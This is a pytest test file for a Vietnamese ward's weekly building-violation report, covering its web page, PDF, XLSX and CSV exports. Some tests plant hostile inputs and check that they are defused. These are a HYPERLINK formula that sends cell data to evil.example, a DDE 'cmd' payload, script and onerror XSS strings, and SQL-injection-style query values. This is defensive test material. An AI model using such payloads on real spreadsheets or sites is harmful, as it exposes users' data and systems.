"""The weekly list as the office gets it: the page, the PDF (checked with pdftotext), XLSX (read back
with openpyxl) and CSV; who sees what; formula and script payloads; bad week and filter input."""
import csv
import io
import json
import re
import subprocess
import unicodedata
from datetime import datetime

import pytest
from openpyxl import load_workbook

from inspect_app.domain.geo import geography
from inspect_app.extensions import db
from inspect_app.models import Violation
from inspect_app.reports import document
from inspect_app.reports.exports import DATE_COLUMNS, HEADER_ROW, ID_COLUMN, neutralise

from . import weekly_scenario as scenario
from .test_cases_web import login

WEEK = "2026-W40"
TITLE = "DANH SÁCH CÔNG TRÌNH VI PHẠM TRẬT TỰ XÂY DỰNG – TUẦN 40 (28/09 – 04/10/2026)"
HEADER_LINES = ("ỦY BAN NHÂN DÂN", "PHƯỜNG THỚI LONG", "(Kèm theo Báo cáo số …/BC-UBND", "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM",
                "Độc lập - Tự do - Hạnh phúc", "Thới Long, ngày … tháng … năm …")
SIGNATURES = ("NGƯỜI LẬP BIỂU", "TM. ỦY BAN NHÂN DÂN", "CHỦ TỊCH")
ORDERED_LETTERS = [letter for stage in ("detected", "warning", "stop_work", "enforcement", "closed")
                   for letter in scenario.EXPECTED_GROUPS[stage]]


@pytest.fixture
def seeded(app, people, tmp_path):
    with app.app_context():
        cases = scenario.build(db.session, people, tmp_path / "scenario-photos")
        db.session.commit()
        return {letter: case.id for letter, case in cases.items()}


def nfc(text):
    return unicodedata.normalize("NFC", text)


def pdf_text(content, tmp_path, layout=False):
    path = tmp_path / "list.pdf"
    path.write_bytes(content)
    args = ["pdftotext"] + (["-layout"] if layout else []) + [str(path), "-"]
    return nfc(subprocess.run(args, check=True, capture_output=True, text=True).stdout)


def codes_in(html):
    return re.findall(r'data-case="([^"]+)"', html)


def test_page_shows_the_official_list_grouped_with_totals(app, seeded):
    response = login(app, "chutich").get(f"/reports/weekly?week={WEEK}")
    assert response.status_code == 200
    html = response.get_data(as_text=True)
    for text in (TITLE,) + HEADER_LINES + SIGNATURES + document.COLUMNS:
        assert text in html, text
    letters = [scenario.letter_of(code) for code in codes_in(html)]
    assert sorted(letters) == sorted(ORDERED_LETTERS)
    groups = {segment.split('"', 1)[0]: [scenario.letter_of(code) for code in codes_in(segment)]
              for segment in html.split('data-stage="')[1:]}
    for stage, expected in scenario.EXPECTED_GROUPS.items():
        assert sorted(groups[stage]) == expected, stage  # the order within: test_weekly_list.py
    assert re.findall(r'data-stage="(\w+)"', html) == ["detected", "warning", "stop_work", "enforcement", "closed"]
    overdue = {scenario.letter_of(c) for c in re.findall(r'class="weekly-row overdue" data-case="([^"]+)"', html)}
    assert overdue == scenario.EXPECTED_OVERDUE
    totals = re.findall(r'data-total="\d+">([^<]*)<', html)
    assert totals == ["2", "1", "1", "1", "60.000.000", "1", "1", "3"]
    assert "Quá hạn 19 ngày" in html  # G, due 15/09, on Sunday 04/10
    assert "Chờ Chủ tịch duyệt" in html


def test_previous_and_next_week_are_one_click_away_with_filters_kept(app, seeded):
    html = login(app, "chutich").get(f"/reports/weekly?week={WEEK}&khu_vuc=Bắc+Vàng").get_data(as_text=True)
    assert re.search(r'id="previous-week" href="[^"]*week=2026-W39[^"]*khu_vuc=B', html)
    assert re.search(r'id="next-week" href="[^"]*week=2026-W41[^"]*khu_vuc=B', html)
    assert re.search(r'id="download-pdf" href="[^"]*week=2026-W40[^"]*khu_vuc=B', html)
    assert {scenario.letter_of(c) for c in codes_in(html)} == {"I", "K", "M", "N"}
    assert "Khu vực: Bắc Vàng" in html


def test_default_is_the_current_week(app, people):
    html = login(app, "chutich").get("/reports/weekly").get_data(as_text=True)
    year, number, _ = datetime.now().isocalendar()
    assert f"TUẦN {number:02d}" in html and f'value="{year}-W{number:02d}"' in html


def test_every_role_sees_the_whole_wards_list(app, seeded):
    """One rule for pages, exports and the map: every inspector of the ward sees every case."""
    lists = {name: codes_in(login(app, name).get(f"/reports/weekly?week={WEEK}").get_data(as_text=True))
             for name in ("kiemtra", "kiemtra2", "chutich", "quantri")}
    assert all(codes == lists["chutich"] for codes in lists.values()) and len(lists["chutich"]) == len(ORDERED_LETTERS)
    content = login(app, "kiemtra2").get(f"/reports/weekly.csv?week={WEEK}").data
    assert content.decode("utf-8-sig").count("TL-2026-") == len(ORDERED_LETTERS)


def test_anonymous_users_are_sent_to_login(app, seeded):
    for path in ("/reports/weekly", "/reports/weekly.pdf", "/reports/weekly.xlsx", "/reports/weekly.csv"):
        response = app.test_client().get(path)
        assert response.status_code == 302 and "/login" in response.headers["Location"]


def test_pdf_has_header_title_rows_and_signatures_with_diacritics(app, seeded, tmp_path):
    response = login(app, "chutich").get(f"/reports/weekly.pdf?week={WEEK}")
    assert response.status_code == 200 and response.mimetype == "application/pdf"
    assert 'filename=danh-sach-vi-pham-phuong-thoi-long-2026-W40.pdf' in response.headers["Content-Disposition"]
    text = pdf_text(response.data, tmp_path)
    flat = " ".join(text.split())
    for line in HEADER_LINES + SIGNATURES:
        assert line in flat, line
    assert TITLE in flat
    for letter in ORDERED_LETTERS:
        code = scenario.expected_codes(letter)[0]
        assert code in flat, code
        assert scenario.OWNERS[letter] in flat, scenario.OWNERS[letter]
    for letter in scenario.NOT_LISTED:
        assert scenario.expected_codes(letter)[0] not in flat
    assert "60.000.000" in flat
    assert "In" not in re.findall(r"\w+", flat[:200])  # no buttons or navigation on paper
    for word in ("Tuần trước", "Tuần sau", "Đăng xuất", "Excel (XLSX)"):
        assert word not in flat


def test_pdf_fonts_are_embedded_and_pages_are_a4_landscape(app, seeded, tmp_path):
    content = login(app, "chutich").get(f"/reports/weekly.pdf?week={WEEK}").data
    path = tmp_path / "list.pdf"
    path.write_bytes(content)
    fonts = subprocess.run(["pdffonts", str(path)], check=True, capture_output=True, text=True).stdout.splitlines()[2:]
    assert fonts and all(line.split()[-5] == "yes" for line in fonts), fonts  # the 'emb' column
    info = subprocess.run(["pdfinfo", str(path)], check=True, capture_output=True, text=True).stdout
    width, height = map(float, re.search(r"Page size:\s+([\d.]+) x ([\d.]+) pts", info).groups())
    assert (round(width), round(height)) == (842, 595)


def test_xlsx_has_the_same_rows_real_dates_and_numbers(app, seeded):
    client = login(app, "chutich")
    html_codes = codes_in(client.get(f"/reports/weekly?week={WEEK}").get_data(as_text=True))
    response = client.get(f"/reports/weekly.xlsx?week={WEEK}")
    assert response.status_code == 200 and response.headers["Content-Disposition"].endswith("2026-W40.xlsx")
    workbook = load_workbook(io.BytesIO(response.data))
    sheet = workbook["Danh sách"]
    rows = list(sheet.iter_rows(values_only=True))
    header_at = next(i for i, row in enumerate(rows) if row[0] == "STT")
    assert list(rows[header_at]) == list(document.COLUMNS) + list(DATE_COLUMNS) + [ID_COLUMN]
    body = [row for row in rows[header_at + 1:] if isinstance(row[0], int)]
    assert [row[1] for row in body] == html_codes
    assert [row[0] for row in body] == list(range(1, len(body) + 1))
    by_code = {row[1]: row for row in body}
    d = by_code[scenario.expected_codes("D")[0]]
    assert d[8] == 60_000_000 and isinstance(d[8], int)
    assert isinstance(d[10], datetime) and d[10].date().isoformat() == "2026-10-06"
    assert d[2].split("\n") == ["Phạm Thị Dung", "Đ/c: 12 Lộ Vòng Cung, Thới Long"]
    assert d[16] == "092080001234"  # the ID number: in its own column, outside the print area
    assert isinstance(d[14], datetime) and isinstance(d[15], datetime)  # the documents' dates as real dates
    d_row = header_at + 2 + [row[1] for row in body].index(d[1])
    assert sheet.cell(row=d_row, column=11).number_format == "DD/MM/YYYY"
    assert sheet.cell(row=d_row, column=9).number_format == "#,##0"
    totals = dict(workbook["Tổng hợp"].iter_rows(min_row=2, values_only=True))
    assert totals["Tiền phạt (đồng)"] == 60_000_000 and totals["Quá hạn"] == 3


def test_csv_is_utf8_with_bom_and_the_same_rows(app, seeded):
    client = login(app, "chutich")
    html_codes = codes_in(client.get(f"/reports/weekly?week={WEEK}").get_data(as_text=True))
    response = client.get(f"/reports/weekly.csv?week={WEEK}")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.data.startswith(b"\xef\xbb\xbf")  # Excel reads UTF-8 only with the BOM
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert rows[0] == list(document.COLUMNS)
    assert [row[1] for row in rows[1:]] == html_codes
    by_code = {row[1]: row for row in rows[1:]}
    d = by_code[scenario.expected_codes("D")[0]]
    assert d[2].split("\n")[0] == "Phạm Thị Dung" and d[8] == "60000000" and d[10] == "06/10/2026"
    assert "Đặng Văn Giàu" in response.data.decode("utf-8-sig")


PAYLOADS = {
    "owner_name": '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")',
    "address": "+1+cmd|' /C calc'!A0",
    "khu_vuc": "-2+3",
    "description": "@SUM(1+1)",
}


def test_formula_payloads_are_neutralised_in_xlsx_and_csv(app, seeded):
    with app.app_context():
        case = db.session.get(Violation, seeded["A"])
        for name, value in PAYLOADS.items():
            setattr(case, name, value)
        case.owner_phone = "0901"
        db.session.commit()
    client = login(app, "chutich")
    workbook = load_workbook(io.BytesIO(client.get(f"/reports/weekly.xlsx?week={WEEK}").data))
    sheet = workbook["Danh sách"]
    cell = next(c for row in sheet.iter_rows() for c in row if c.value == scenario.expected_codes("A")[0])
    owner = sheet.cell(row=cell.row, column=3)
    address = sheet.cell(row=cell.row, column=4)
    assert owner.value.startswith(PAYLOADS["owner_name"]) and owner.data_type == "s" and owner.quotePrefix
    assert address.data_type == "s" and address.value.startswith("+1+cmd")
    for row in sheet.iter_rows():
        for c in row:
            assert c.data_type != "f", (c.coordinate, c.value)
    text = client.get(f"/reports/weekly.csv?week={WEEK}").data.decode("utf-8-sig")
    row = next(r for r in csv.reader(io.StringIO(text)) if r[1] == scenario.expected_codes("A")[0])
    assert row[2].startswith("'" + PAYLOADS["owner_name"]) and row[3].startswith("'+1+cmd")
    for value in (v for r in csv.reader(io.StringIO(text)) for v in r):
        assert not value.startswith(("=", "+", "-", "@")), value


@pytest.mark.parametrize("value,expected", [
    ("=1+1", "'=1+1"), ("+84 90", "'+84 90"), ("-5", "'-5"), ("@x", "'@x"), ("\tx", "'\tx"), ("Bình thường", "Bình thường"),
    ("", ""), (12, 12),
])
def test_neutralise(value, expected):
    assert neutralise(value) == expected


def test_script_payloads_stay_text_on_the_page_and_in_the_pdf(app, seeded, tmp_path):
    payload = '<script>alert("x")</script><img src=x onerror=alert(1)>'
    with app.app_context():
        case = db.session.get(Violation, seeded["A"])
        case.owner_name = payload
        db.session.commit()
    client = login(app, "chutich")
    html = client.get(f"/reports/weekly?week={WEEK}").get_data(as_text=True)
    assert payload not in html and "&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt;" in html
    text = pdf_text(client.get(f"/reports/weekly.pdf?week={WEEK}").data, tmp_path)
    # The narrow owner column wraps the payload (anywhere); without the line breaks it is there, printed
    # as the text it is.
    assert "".join(payload.split()) in "".join(text.split())


def test_an_empty_week_prints_header_and_signatures(app, people, tmp_path):
    client = login(app, "chutich")
    html = client.get("/reports/weekly?week=2025-W10").get_data(as_text=True)
    assert "Không có công trình vi phạm nào trong tuần này." in html and codes_in(html) == []
    flat = " ".join(pdf_text(client.get("/reports/weekly.pdf?week=2025-W10").data, tmp_path).split())
    for text in HEADER_LINES + SIGNATURES + ("TUẦN 10 (03/03 – 09/03/2025)", "Không có công trình vi phạm nào", "STT"):
        assert text in flat, text
    rows = list(csv.reader(io.StringIO(client.get("/reports/weekly.csv?week=2025-W10").data.decode("utf-8-sig"))))
    assert rows == [list(document.COLUMNS)]
    sheet = load_workbook(io.BytesIO(client.get("/reports/weekly.xlsx?week=2025-W10").data))["Danh sách"]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[HEADER_ROW - 1] == tuple(document.COLUMNS) + DATE_COLUMNS + (ID_COLUMN,) and rows[HEADER_ROW][0] is None
    assert any(row[0] == "Nơi nhận:" for row in rows[HEADER_ROW:])


@pytest.mark.parametrize("query,message", [
    ("week=2026-W54", "Năm 2026 không có tuần 54"),
    ("week=2026-W5x", "Nhập tuần theo dạng YYYY-Www"),
    ("week=48", "Nhập tuần theo dạng YYYY-Www"),
    ("week=2026-W48%27%20OR%201=1--", "Nhập tuần theo dạng YYYY-Www"),
    ("route=99999", "Tuyến: Tuyến này không tồn tại."),
    ("route=abc", "Tuyến:"),
    ("stage=closed%27--", "Giai đoạn:"),
    ("khu_vuc=" + "x" * 101, "Khu vực"),
])
@pytest.mark.parametrize("path", ["/reports/weekly", "/reports/weekly.pdf", "/reports/weekly.xlsx", "/reports/weekly.csv"])
def test_bad_week_or_filter_gets_a_message_not_a_500(app, seeded, db_snapshot, path, query, message):
    client = login(app, "chutich")
    before = db_snapshot()
    response = client.get(f"{path}?{query}")
    assert response.status_code == 400 and response.mimetype == "text/html"
    html = response.get_data(as_text=True)
    assert message in html, html[:2000]
    assert 'class="flash flash-error"' in html
    assert "DANH SÁCH CÔNG TRÌNH VI PHẠM" in html  # the current week's list is still shown
    assert db_snapshot() == before


def test_the_document_stays_vietnamese_for_an_english_reader(app, seeded):
    client = login(app, "chutich")
    page = client.get("/").get_data(as_text=True)
    token = re.search(r'name="csrf_token" (?:type="hidden" )?value="([^"]+)"', page).group(1)
    client.post("/language", data={"lang": "en", "next": "/", "csrf_token": token})
    html = client.get(f"/reports/weekly?week={WEEK}").get_data(as_text=True)
    assert "Weekly enforcement list" in html and "Previous week" in html
    assert TITLE in html and "LẬP BIÊN BẢN / CẢNH BÁO" in html and "Quá hạn 19 ngày" in html


@pytest.mark.parametrize("chromium,message", [
    ("/nonexistent/chromium", "Chromium"),  # not installed
    ("/bin/false", "Vui lòng thử lại"),       # installed but fails
])
def test_without_a_working_chromium_the_pdf_link_explains_and_shows_the_list(app, seeded, chromium, message):
    app.config["CHROMIUM_PATH"] = chromium
    response = login(app, "chutich").get(f"/reports/weekly.pdf?week={WEEK}")
    assert response.status_code == 503 and response.mimetype == "text/html"
    html = response.get_data(as_text=True)
    assert message in html and 'class="flash flash-error"' in html
    assert TITLE in html  # the list is still there to print from the browser


def test_nobody_is_told_the_list_is_limited(app, seeded):
    assert "Bạn chỉ thấy các vụ do bạn phụ trách." not in login(app, "kiemtra").get("/reports/weekly").get_data(as_text=True)


def test_the_list_follows_decree_30_and_the_wards_settings_in_pdf_and_xlsx(app, seeded, demo_ward, tmp_path):
    """Title, annex line and number from the settings; the signer's full name; Nơi nhận; the XLSX set up
    for printing (A4 landscape, header row on every page, one page wide, page numbers from page 2)."""
    with app.app_context():
        ward = geography.get_ward(db.session)
        ward.document_settings = json.dumps({"list_title": "DANH SÁCH VI PHẠM TRẬT TỰ XÂY DỰNG", "list_number": "12/DS-UBND",
                                             "list_annex": "(Kèm theo Báo cáo số 45/BC-UBND ngày 05/10/2026)",
                                             "signer_name": "Trần Văn Ký", "recipients": "- UBND thành phố;\n- Lưu: VT."})
        db.session.commit()
    client = login(app, "chutich")
    flat = " ".join(pdf_text(client.get(f"/reports/weekly.pdf?week={WEEK}").data, tmp_path).split())
    for text in ("DANH SÁCH VI PHẠM TRẬT TỰ XÂY DỰNG – TUẦN 40", "Số: 12/DS-UBND", "(Kèm theo Báo cáo số 45/BC-UBND ngày 05/10/2026)",
                 "Trần Văn Ký", "Trần Chủ Tịch", "Nơi nhận: - UBND thành phố; - Lưu: VT.", "Độc lập - Tự do - Hạnh phúc"):
        assert text in flat, text

    workbook = load_workbook(io.BytesIO(client.get(f"/reports/weekly.xlsx?week={WEEK}").data))
    sheet = workbook["Danh sách"]
    values = [c.value for row in sheet.iter_rows() for c in row if c.value is not None]
    for text in ("ỦY BAN NHÂN DÂN", "PHƯỜNG THỚI LONG", "Số: 12/DS-UBND", "Độc lập - Tự do - Hạnh phúc",
                 "DANH SÁCH VI PHẠM TRẬT TỰ XÂY DỰNG – TUẦN 40 (28/09 – 04/10/2026)",
                 "(Kèm theo Báo cáo số 45/BC-UBND ngày 05/10/2026)", "NGƯỜI LẬP BIỂU", "Trần Chủ Tịch", "TM. ỦY BAN NHÂN DÂN",
                 "Trần Văn Ký", "Nơi nhận:", "- UBND thành phố;", "- Lưu: VT."):
        assert text in values, text
    assert sheet.page_setup.orientation == "landscape" and str(sheet.page_setup.paperSize) == sheet.PAPERSIZE_A4 == "9"
    assert sheet.sheet_properties.pageSetUpPr.fitToPage and sheet.page_setup.fitToWidth == 1
    assert sheet.page_setup.fitToHeight == 0
    assert sheet.print_title_rows == f"${HEADER_ROW}:${HEADER_ROW}"
    assert sheet.print_area.endswith(f"!$A$1:$N${sheet.max_row}")  # the printed form's 14 columns, down to Nơi nhận
    assert sheet.HeaderFooter.differentFirst and sheet.oddHeader.center.text == "&P" and not sheet.firstHeader.center.text
    body = [row for row in sheet.iter_rows(min_row=HEADER_ROW + 1) if isinstance(row[0].value, int)]
    dated = [c for row in body for c in (row[10], row[14], row[15]) if c.value is not None]
    assert dated and all(isinstance(c.value, datetime) and c.number_format == "DD/MM/YYYY" for c in dated)


def test_a_deadline_over_an_unconfirmed_year_is_marked_forecast_until_the_office_confirms_it(app, seeded, demo_ward):
    client = login(app, "chutich")
    d_code = scenario.expected_codes("D")[0]

    def d_row():
        html = client.get(f"/reports/weekly?week={WEEK}").get_data(as_text=True)
        start = html.index(f'data-case="{d_code}"')
        cell = html[html.index('<td class="due">', start):html.index("</td>", html.index('<td class="due">', start))]
        sheet = load_workbook(io.BytesIO(client.get(f"/reports/weekly.xlsx?week={WEEK}").data))["Danh sách"]
        notes = next(row[13].value for row in sheet.iter_rows() if row[1].value == d_code) or ""
        return cell, notes

    cell, notes = d_row()
    assert "06/10/2026" in cell and "(dự kiến)" in cell and document.FORECAST_NOTE in notes
    with app.app_context():
        geography.get_ward(db.session).holidays_confirmed = "[2026]"
        db.session.commit()
    cell, notes = d_row()
    assert "06/10/2026" in cell and "(dự kiến)" not in cell and document.FORECAST_NOTE not in notes
